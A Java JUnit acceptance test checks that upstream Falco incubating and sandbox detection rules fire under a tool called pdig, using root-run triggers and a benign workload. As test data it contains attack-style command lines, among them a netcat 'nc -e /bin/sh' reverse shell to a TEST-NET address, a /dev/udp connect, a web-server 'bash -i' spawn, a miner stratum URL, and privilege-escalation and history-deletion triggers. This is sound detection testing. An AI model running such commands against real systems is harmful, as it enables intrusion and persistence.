package io.pdig.launcher.upstream;

import io.pdig.launcher.testsupport.Expect;
import io.pdig.launcher.testsupport.PdigRun;

import static io.pdig.launcher.testsupport.PdigRun.field;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.NetworkInterface;
import java.net.SocketException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Acceptance over the UPSTREAM Falco incubating and sandbox rules (shared/falco-rules/
 * falco-incubating_rules.yaml and falco-sandbox_rules.yaml, loaded in place): each rule below must
 * fire, with the output fields Falco would give, when its behaviour really happens under
 * {@code ./pdig run}, and an ordinary workload must raise none of them.
 *
 * <p>Sandbox rules shipped {@code enabled: false} are switched on the way Falco users do it: a
 * third rules file the test writes, {@code - rule: X / enabled: true / override: {enabled: replace}}.
 * {@code --rule-matching all} (Falco's {@code rule_matching: all}) is used because the two files
 * deliberately overlap (a write to /etc/cron.* is both "Schedule Cron Jobs" and "Write below etc");
 * with "first", which rule claims the event would depend on file order, not on pdig.
 *
 * <p>All triggers run in ONE pdig session, one after another (xargs -P 1: a file is created
 * before it is removed). They are real programs doing the real thing: coreutils writing below
 * /etc, /usr/bin, /dev, /root and a /home/USER/.ssh the test creates; test-programs/src/up_sys.c
 * making the one system call a rule watches (setns, setuid, bpf, userfaultfd, a UDP connect, a
 * listen + accept); and copies of small programs under the names the rules look for (nc, xmrig,
 * sudo, pkexec, crontab, curl, useradd: /usr/bin/true; nginx, mysqld: up_spawn, so that the server
 * is the parent; sshd: up_open; perl: up_sys). Every expectation names the process and the object
 * (file, port, argument), so a stray alert of the same rule does not count.
 *
 * <p>Needs root (writes below /etc, /usr/bin, /dev, /root; runs commands as uid 1 with setpriv),
 * a route to 198.51.100.7 (TEST-NET-2: the UDP datagram goes nowhere) and a non-loopback IPv4
 * address for the listen trigger (the inbound rules ignore 127.0.0.0/8). Everything created outside
 * the temporary directory is removed after the class.
 */
class IncubatingRulesE2ETest {
    private static final String INCUBATING = "falco-incubating_rules.yaml";
    private static final String SANDBOX = "falco-sandbox_rules.yaml";
    /** TEST-NET-2 (RFC 5737): not loopback, not RFC 1918, so the "outbound" macro counts it. */
    private static final String REMOTE_IP = "198.51.100.7";
    private static final String UDP_PORT = "9999";
    private static final String LISTEN_PORT = "47017";

    /** The disabled sandbox rules this test switches on (override file). */
    private static final List<String> ENABLED_BY_OVERRIDE = List.of(
            "Read Shell Configuration File",
            "Interpreted procs inbound network activity",
            "Interpreted procs outbound network activity",
            "Create Hidden Files or Directories",
            "Unexpected inbound connection source");

    @TempDir
    static Path work;

    /** Paths the triggers create outside {@link #work}; each is removed after the class. */
    private static final List<Path> outside = Collections.synchronizedList(new ArrayList<>());
    private static Path rpmDirCreated;

    private static List<Trigger> triggers;
    private static List<List<String>> commands;
    private static PdigRun triggerRun;
    private static Throwable triggerRunFailure;

    /** A rule, the fields one of its alerts must carry, and (for the message) what triggered it. */
    record Trigger(String rule, String what, List<Expect> expect) {
        boolean matches(JsonNode alert) {
            return expect.stream().allMatch(e -> e.holds(alert));
        }

        @Override
        public String toString() {
            return rule;
        }
    }

    /** The rules covered, as named in the upstream files; the trigger table must have each. */
    static Stream<String> rules() {
        return Stream.of(
                // incubating
                "Modify Shell Configuration File", "Schedule Cron Jobs", "Read ssh information",
                "DB program spawned process", "Change thread namespace", "System procs network activity",
                "Program run with disallowed http proxy env", "Unexpected UDP Traffic", "Non sudo setuid",
                "User mgmt binaries", "Create files below dev", "Launch Suspicious Network Tool on Host",
                "Delete or rename shell history", "Set Setuid or Setgid bit", "Adding ssh keys to authorized_keys",
                "Potential Local Privilege Escalation via Environment Variables Misuse",
                "Backdoored library loaded into SSHD (CVE-2024-3094)", "BPF Program Not Profiled",
                // sandbox
                "Unexpected inbound connection source", "Read Shell Configuration File", "Update Package Repository",
                "Write below binary dir", "Write below monitored dir", "Write below etc", "Write below root",
                "Write below rpm database", "Modify binary dirs", "Mkdir binary dirs",
                "Interpreted procs inbound network activity", "Interpreted procs outbound network activity",
                "Create Hidden Files or Directories", "Detect crypto miners using the Stratum protocol",
                "Sudo Potential Privilege Escalation",
                "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
                "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "Basic Interactive Reconnaissance",
                "Netcat/Socat Remote Code Execution on Host", "Known Cryptominer Process Executed",
                "Web Server Spawned Shell", "Web Server Spawned Suspicious Child Process", "Reverse Shell from Web Server");
    }

    private static void needPdig() {
        assumeTrue(Files.isExecutable(PdigRun.pdigScript()),
                PdigRun.pdigScript() + " not found: the launcher script is needed for end-to-end runs");
        assumeTrue(isRoot(), "needs root: the triggers write below /etc, /usr/bin, /dev and /root");
    }

    private static boolean isRoot() {
        try {
            return Integer.valueOf(0).equals(Files.getAttribute(Path.of("/proc/self"), "unix:uid"));
        } catch (IOException | UnsupportedOperationException e) {
            return false;
        }
    }

    /** The sudo and pkexec rules require user.loginuid != 0: true unless run from a root login. */
    private static boolean loginUidIsNotRoot() {
        try {
            return !Files.readString(Path.of("/proc/self/loginuid")).trim().equals("0");
        } catch (IOException e) {
            return true;
        }
    }

    /** A non-loopback IPv4 address of this host: the inbound macro ignores 127.0.0.0/8 and 0.0.0.0. */
    private static Optional<String> localIpv4() throws SocketException {
        return NetworkInterface.networkInterfaces()
                .filter(i -> {
                    try {
                        return i.isUp() && !i.isLoopback();
                    } catch (SocketException e) {
                        return false;
                    }
                })
                .flatMap(NetworkInterface::inetAddresses)
                .filter(a -> a instanceof Inet4Address && !a.isLoopbackAddress() && !a.isLinkLocalAddress())
                .map(InetAddress::getHostAddress)
                .findFirst();
    }

    private static Path copyExecutable(Path from, Path to) throws IOException {
        Files.copy(from, to);
        Files.setPosixFilePermissions(to, PosixFilePermissions.fromString("rwxr-xr-x"));
        return to;
    }

    private static Path outsidePath(String path) {
        Path p = Path.of(path);
        outside.add(p);
        return p;
    }

    /** Builds the scratch files, the renamed copies, the command list and the expectations. */
    private static void prepare() throws IOException {
        long pid = ProcessHandle.current().pid();
        String tag = "pdig-e2e-" + pid;
        Path bin = Files.createDirectories(work.resolve("bin"));
        Path trueBin = Path.of("/usr/bin/true");
        String nc = copyExecutable(trueBin, bin.resolve("nc")).toString();
        String xmrig = copyExecutable(trueBin, bin.resolve("xmrig")).toString();
        String sudo = copyExecutable(trueBin, bin.resolve("sudo")).toString();
        String pkexec = copyExecutable(trueBin, bin.resolve("pkexec")).toString();
        String crontab = copyExecutable(trueBin, bin.resolve("crontab")).toString();
        String curl = copyExecutable(trueBin, bin.resolve("curl")).toString();
        String useradd = copyExecutable(trueBin, bin.resolve("useradd")).toString();
        String mysqld = copyExecutable(PdigRun.testProgram("up_spawn"), bin.resolve("mysqld")).toString();
        String nginx = copyExecutable(PdigRun.testProgram("up_spawn"), bin.resolve("nginx")).toString();
        String sshd = copyExecutable(PdigRun.testProgram("up_open"), bin.resolve("sshd")).toString();
        String perl = copyExecutable(PdigRun.testProgram("up_sys"), bin.resolve("perl")).toString();
        String upOpen = PdigRun.testProgram("up_open").toString();
        String upSys = PdigRun.testProgram("up_sys").toString();
        // uid 1 must reach its program: @TempDir is mode 700, so this copy lives in a 755 directory
        Path pub = Files.createTempDirectory(Path.of("/tmp"), tag + "-pub");
        Files.setPosixFilePermissions(pub, PosixFilePermissions.fromString("rwxr-xr-x"));
        outside.add(pub);
        String upSysPublic = copyExecutable(PdigRun.testProgram("up_sys"), pub.resolve("up_sys")).toString();
        outside.add(pub.resolve("up_sys"));

        String bashrc = Files.writeString(work.resolve(".bashrc"), "# scratch\n").toString();
        String history = Files.writeString(work.resolve(".bash_history"), "ls\n").toString();
        String suid = Files.writeString(work.resolve("suid-target"), "x\n").toString();
        String liblzma = Files.writeString(work.resolve("liblzma.so.5.6.1"), "not a library\n").toString();
        String hidden = work.resolve(".hidden-" + pid).toString();

        Path home = outsidePath("/home/" + tag);
        Path ssh = Files.createDirectories(home.resolve(".ssh"));
        outside.add(ssh);
        String authorizedKeys = Files.writeString(ssh.resolve("authorized_keys"), "").toString();
        outside.add(Path.of(authorizedKeys));
        Path rpmDir = Path.of("/var/lib/rpm");
        if (!Files.exists(rpmDir)) {
            rpmDirCreated = Files.createDirectories(rpmDir);
        }
        Path aptDir = Path.of("/etc/apt");
        if (!Files.isDirectory(aptDir)) {
            throw new IllegalStateException("/etc/apt is missing: the repository trigger writes a list file there");
        }
        String cronFile = outsidePath("/etc/cron." + tag).toString();
        String devFile = outsidePath("/dev/" + tag).toString();
        String binFile = outsidePath("/usr/bin/" + tag).toString();
        String binDir = outsidePath("/usr/bin/" + tag + "-dir").toString();
        String rootFile = outsidePath("/root/" + tag).toString();
        String aptFile = outsidePath("/etc/apt/" + tag + ".list").toString();
        String rpmFile = outsidePath("/var/lib/rpm/" + tag).toString();
        String ip = localIpv4().orElseThrow(() -> new IllegalStateException(
                "no non-loopback IPv4 address: the inbound trigger needs one"));

        // In order: each file is created before the command that removes it.
        commands = List.of(
                List.of(upOpen, "-t", bashrc),
                List.of(upOpen, bashrc),
                List.of(crontab, "-l"),
                List.of("/usr/bin/touch", cronFile),
                List.of("/usr/bin/cat", authorizedKeys),
                List.of(upOpen, "-t", authorizedKeys),
                List.of(mysqld, "/usr/bin/true"),
                List.of(upSys, "setns"),
                List.of("/bin/bash", "-c", "exec 3<>/dev/udp/" + REMOTE_IP + "/" + UDP_PORT + "; echo x >&3"),
                List.of("HTTP_PROXY=http://" + REMOTE_IP + ":3128", curl, "--version"),
                List.of("/usr/bin/setpriv", "--reuid=1", "--regid=1", "--clear-groups", upSysPublic, "setuid", "1"),
                List.of(useradd, "pdig-e2e-nobody"),
                List.of("/usr/bin/touch", devFile),
                List.of(nc, "-e", "/bin/sh", REMOTE_IP, "4444"),
                List.of("/usr/bin/rm", history),
                List.of("/usr/bin/chmod", "u+s", suid),
                List.of("GLIBC_TUNABLES=glibc.malloc.mxfast=0", "/usr/bin/true"),
                List.of(sshd, liblzma),
                List.of(upSys, "bpf"),
                List.of("/usr/bin/touch", aptFile),
                List.of("/usr/bin/touch", binFile),
                List.of("/usr/bin/rm", binFile),
                List.of("/usr/bin/mkdir", binDir),
                List.of("/usr/bin/rmdir", binDir),
                List.of("/usr/bin/touch", rootFile),
                List.of("/usr/bin/touch", rpmFile),
                List.of(perl, "udp", REMOTE_IP, UDP_PORT),
                List.of(perl, "listen", ip, LISTEN_PORT),
                List.of("/usr/bin/mkdir", hidden),
                List.of("/usr/bin/echo", "stratum+tcp://pool.invalid:3333"),
                List.of(sudo, "-s", "x\\"),
                List.of(pkexec),
                // script runs its command with $SHELL -c; bash execs a lone command in place, dash (the
                // /bin/sh script falls back to when SHELL is unset, as in CI) forks it into the shell's
                // process group, where whoami is no group leader and its parent is sh: the rule needs bash.
                List.of("SHELL=/bin/bash", "/usr/bin/script", "-qc", "/usr/bin/whoami", "/dev/null"),
                List.of(xmrig),
                List.of(nginx, "/bin/sh", "-c", "echo bash -i >/dev/null"),
                List.of(nginx, "/usr/bin/whoami"),
                List.of("/usr/bin/setpriv", "--reuid=1", "--regid=1", "--clear-groups", upSysPublic, "uffd"));

        String udpName = REMOTE_IP + ":" + UDP_PORT;
        triggers = List.of(
                t("Modify Shell Configuration File", "up_open -t .bashrc",
                        Expect.eq("proc.name", "up_open"), Expect.eq("fd.name", bashrc), Expect.eq("evt.type", "openat")),
                t("Read Shell Configuration File", "up_open .bashrc",
                        Expect.eq("proc.name", "up_open"), Expect.eq("fd.name", bashrc),
                        Expect.eq("proc.cmdline", "up_open " + bashrc)),
                t("Schedule Cron Jobs", "crontab -l (a copy of true)",
                        Expect.eq("proc.name", "crontab"), Expect.eq("evt.type", "execve"),
                        Expect.eq("proc.cmdline", "crontab -l")),
                t("Schedule Cron Jobs", "touch /etc/cron.*",
                        Expect.eq("proc.name", "touch"), Expect.eq("fd.name", cronFile)),
                t("Write below etc", "touch /etc/cron.*",
                        Expect.eq("proc.name", "touch"), Expect.eq("fd.name", cronFile), Expect.eq("proc.pname", "xargs")),
                t("Read ssh information", "cat /home/USER/.ssh/authorized_keys",
                        Expect.eq("proc.name", "cat"), Expect.eq("fd.name", authorizedKeys)),
                t("Adding ssh keys to authorized_keys", "up_open -t /home/USER/.ssh/authorized_keys",
                        Expect.eq("proc.name", "up_open"), Expect.eq("fd.name", authorizedKeys)),
                t("Write below monitored dir", "up_open -t /home/USER/.ssh/authorized_keys",
                        Expect.eq("proc.name", "up_open"), Expect.eq("fd.name", authorizedKeys)),
                t("DB program spawned process", "mysqld (up_spawn) runs true",
                        Expect.eq("proc.name", "true"), Expect.eq("proc.pname", "mysqld")),
                t("Change thread namespace", "up_sys setns",
                        Expect.eq("evt.type", "setns"), Expect.eq("proc.cmdline", "up_sys setns")),
                t("System procs network activity", "bash /dev/udp connect",
                        Expect.eq("proc.name", "bash"), Expect.eq("evt.type", "connect"), Expect.eq("fd.rport", UDP_PORT),
                        Expect.eq("fd.l4proto", "udp"), Expect.contains("fd.name", "->" + udpName)),
                t("Unexpected UDP Traffic", "bash /dev/udp connect",
                        Expect.eq("proc.name", "bash"), Expect.eq("fd.rport", UDP_PORT), Expect.eq("fd.l4proto", "udp")),
                t("Program run with disallowed http proxy env", "HTTP_PROXY=... curl",
                        Expect.eq("proc.name", "curl"), Expect.contains("proc.env", "HTTP_PROXY=http://" + REMOTE_IP)),
                t("Non sudo setuid", "up_sys setuid 1 as uid 1",
                        Expect.eq("evt.type", "setuid"), Expect.eq("user.uid", "1"), Expect.eq("proc.name", "up_sys")),
                t("User mgmt binaries", "useradd (a copy of true)",
                        Expect.eq("proc.name", "useradd"), Expect.eq("proc.cmdline", "useradd pdig-e2e-nobody")),
                t("Create files below dev", "touch /dev/X",
                        Expect.eq("proc.name", "touch"), Expect.eq("fd.name", devFile)),
                t("Launch Suspicious Network Tool on Host", "nc (a copy of true)",
                        Expect.eq("proc.name", "nc"), Expect.eq("proc.cmdline", "nc -e /bin/sh " + REMOTE_IP + " 4444")),
                t("Netcat/Socat Remote Code Execution on Host", "nc -e (a copy of true)",
                        Expect.eq("proc.name", "nc"), Expect.eq("proc.cmdline", "nc -e /bin/sh " + REMOTE_IP + " 4444")),
                t("Delete or rename shell history", "rm .bash_history",
                        Expect.eq("proc.name", "rm"), Expect.eq("evt.type", "unlinkat"), Expect.eq("evt.arg.name", history)),
                t("Set Setuid or Setgid bit", "chmod u+s",
                        Expect.eq("proc.name", "chmod"), Expect.eq("evt.arg.filename", suid),
                        Expect.contains("evt.arg.mode", "S_ISUID")),
                t("Potential Local Privilege Escalation via Environment Variables Misuse", "GLIBC_TUNABLES=... true",
                        Expect.eq("proc.name", "true"), Expect.contains("proc.env", "GLIBC_TUNABLES=glibc.malloc.mxfast=0")),
                t("Backdoored library loaded into SSHD (CVE-2024-3094)", "sshd (up_open) opens liblzma.so.5.6.1",
                        Expect.eq("proc.name", "sshd"), Expect.eq("fd.name", liblzma)),
                t("BPF Program Not Profiled", "up_sys bpf",
                        Expect.eq("evt.type", "bpf"), Expect.eq("evt.arg.cmd", "BPF_PROG_LOAD"),
                        Expect.eq("proc.name", "up_sys")),
                t("Update Package Repository", "touch /etc/apt/X.list",
                        Expect.eq("proc.name", "touch"), Expect.eq("fd.name", aptFile)),
                t("Write below binary dir", "touch /usr/bin/X",
                        Expect.eq("proc.name", "touch"), Expect.eq("fd.name", binFile)),
                t("Modify binary dirs", "rm /usr/bin/X",
                        Expect.eq("proc.name", "rm"), Expect.eq("evt.type", "unlinkat"),
                        Expect.contains("evt.args", "name=" + binFile + " ")),
                t("Modify binary dirs", "rmdir /usr/bin/X-dir",
                        Expect.eq("proc.name", "rmdir"), Expect.eq("evt.args", "res=0 path=" + binDir)),
                t("Mkdir binary dirs", "mkdir /usr/bin/X-dir",
                        Expect.eq("proc.name", "mkdir"), Expect.eq("evt.arg.path", binDir)),
                t("Write below root", "touch /root/X",
                        Expect.eq("proc.name", "touch"), Expect.eq("fd.name", rootFile)),
                t("Write below rpm database", "touch /var/lib/rpm/X",
                        Expect.eq("proc.name", "touch"), Expect.eq("fd.name", rpmFile)),
                t("Interpreted procs outbound network activity", "perl (up_sys) udp",
                        Expect.eq("proc.name", "perl"), Expect.eq("evt.type", "connect"), Expect.eq("fd.rport", UDP_PORT),
                        Expect.eq("fd.l4proto", "udp")),
                t("Unexpected UDP Traffic", "perl (up_sys) udp",
                        Expect.eq("proc.name", "perl"), Expect.eq("fd.rport", UDP_PORT)),
                t("Interpreted procs inbound network activity", "perl (up_sys) listen",
                        Expect.eq("proc.name", "perl"), Expect.eq("evt.type", "listen"),
                        Expect.eq("fd.name", ip + ":" + LISTEN_PORT), Expect.eq("fd.lport", LISTEN_PORT)),
                t("Interpreted procs inbound network activity", "perl (up_sys) accept",
                        Expect.eq("proc.name", "perl"), Expect.eq("evt.type", "accept"),
                        Expect.contains("fd.name", ip + ":"), Expect.contains("fd.name", "->" + ip + ":" + LISTEN_PORT),
                        Expect.eq("fd.lport", LISTEN_PORT)),
                t("Unexpected inbound connection source", "perl (up_sys) accept",
                        Expect.eq("proc.name", "perl"), Expect.eq("evt.type", "accept"), Expect.eq("fd.lport", LISTEN_PORT)),
                t("Create Hidden Files or Directories", "mkdir .hidden",
                        Expect.eq("proc.name", "mkdir"), Expect.eq("evt.type", "mkdir")),
                t("Detect crypto miners using the Stratum protocol", "echo stratum+tcp://",
                        Expect.eq("proc.name", "echo"), Expect.eq("proc.cmdline", "echo stratum+tcp://pool.invalid:3333")),
                t("Sudo Potential Privilege Escalation", "sudo -s 'x\\' (a copy of true)",
                        Expect.eq("proc.name", "sudo"), Expect.eq("proc.cmdline", "sudo -s x\\")),
                t("Unprivileged Delegation of Page Faults Handling to a Userspace Process", "up_sys uffd as uid 1",
                        Expect.eq("evt.type", "userfaultfd"), Expect.eq("user.uid", "1")),
                t("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "pkexec without arguments",
                        Expect.eq("proc.name", "pkexec"), Expect.eq("proc.args", "")),
                t("Basic Interactive Reconnaissance", "whoami on script's pty",
                        Expect.eq("proc.name", "whoami"), Expect.eq("proc.pname", "script")),
                t("Known Cryptominer Process Executed", "xmrig (a copy of true)",
                        Expect.eq("proc.name", "xmrig"), Expect.eq("proc.exepath", xmrig)),
                t("Web Server Spawned Shell", "nginx (up_spawn) runs sh",
                        Expect.eq("proc.name", "sh"), Expect.eq("proc.pname", "nginx")),
                t("Reverse Shell from Web Server", "nginx (up_spawn) runs sh -c 'echo bash -i'",
                        Expect.eq("proc.name", "sh"), Expect.eq("proc.pname", "nginx"),
                        Expect.eq("proc.cmdline", "sh -c echo bash -i >/dev/null")),
                t("Web Server Spawned Suspicious Child Process", "nginx (up_spawn) runs whoami",
                        Expect.eq("proc.name", "whoami"), Expect.eq("proc.pname", "nginx")));
    }

    private static Trigger t(String rule, String what, Expect... expect) {
        return new Trigger(rule, what, List.of(expect));
    }

    /** The override file that enables the disabled sandbox rules, as a Falco user writes it. */
    private static Path overrideFile() throws IOException {
        StringBuilder y = new StringBuilder();
        for (String rule : ENABLED_BY_OVERRIDE) {
            y.append("- rule: ").append(rule).append("\n  enabled: true\n  override:\n    enabled: replace\n");
        }
        return Files.writeString(work.resolve("enable-sandbox.yaml"), y.toString());
    }

    private static List<String> ruleOptions() throws IOException {
        return List.of("--rule-matching", "all",
                "-r", PdigRun.upstreamRules(INCUBATING).toString(),
                "-r", PdigRun.upstreamRules(SANDBOX).toString(),
                "-r", overrideFile().toString());
    }

    /** Runs every trigger once, in one pdig session (the first caller pays; later ones share it). */
    private static synchronized PdigRun triggerRun() throws Exception {
        if (triggerRun == null && triggerRunFailure == null) {
            try {
                prepare();
                Path list = Files.write(work.resolve("triggers.txt"),
                        commands.stream().map(PdigRun::xargsLine).toList());
                triggerRun = PdigRun.run(work, ruleOptions(),
                        List.of("/usr/bin/xargs", "-P", "1", "-L", "1", "-a", list.toString(), "/usr/bin/env"));
            } catch (Exception | Error e) {
                triggerRunFailure = e;
            }
        }
        if (triggerRunFailure != null) {
            throw new AssertionError("the trigger session failed", triggerRunFailure);
        }
        return triggerRun;
    }

    @AfterAll
    static void removeWhatTheTriggersCreatedOutside() throws IOException {
        List<Path> paths = new ArrayList<>(outside);
        Collections.reverse(paths); // children before their directories
        for (Path p : paths) {
            Files.deleteIfExists(p);
        }
        if (rpmDirCreated != null) {
            try (Stream<Path> left = Files.list(rpmDirCreated)) {
                if (left.findAny().isEmpty()) Files.delete(rpmDirCreated);
            }
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("rules")
    void ruleFiresWhenItsBehaviourHappens(String rule) throws Exception {
        needPdig();
        if (rule.startsWith("Sudo Potential") || rule.startsWith("Polkit")) {
            assumeTrue(loginUidIsNotRoot(), "user.loginuid is 0 here: the rule rightly ignores root logins");
        }
        PdigRun run = triggerRun();
        List<Trigger> mine = triggers.stream().filter(t -> t.rule().equals(rule)).toList();
        assertTrue(!mine.isEmpty(), "no trigger for '" + rule + "'");
        List<JsonNode> hits = run.alertsOf(rule);
        for (Trigger t : mine) {
            assertTrue(hits.stream().anyMatch(t::matches), () -> "'" + rule + "' did not fire for " + t.what()
                    + " with " + t.expect() + " (" + hits.size() + " alert(s) of this rule)\n" + run.transcript);
        }
    }

    /**
     * Listing directories, reading ordinary files, archiving documentation and writing a scratch
     * file raise none of the ~70 rules. A canary (a copy of true named xmrig) runs last in the same
     * session, so a pdig that evaluates no rules at all cannot pass: its alert must be the only one.
     */
    @Test
    void benignWorkloadRaisesNoAlert() throws Exception {
        needPdig();
        Path canary = copyExecutable(Path.of("/usr/bin/true"),
                Files.createDirectories(work.resolve("canary-bin")).resolve("xmrig"));
        Path scratch = work.resolve("benign-out.txt");
        String script = "ls -la /usr /etc > /dev/null"
                + " && cat /etc/hostname /etc/os-release > /dev/null"
                + " && tar cf /dev/null /usr/share/doc"
                + " && date > " + scratch
                + " && " + canary;
        PdigRun run = PdigRun.run(work, ruleOptions(), List.of("/bin/sh", "-c", script));
        List<String> fired = run.alerts.stream()
                .map(a -> a.get("rule").asText() + " by " + field(a, "proc.name"))
                .toList();
        assertEquals(List.of("Known Cryptominer Process Executed by xmrig"), fired,
                "only the canary may raise an alert during the benign workload\n" + run.transcript);
        assertEquals(0, run.exitCode, "benign workload failed\n" + run.transcript);
    }
}
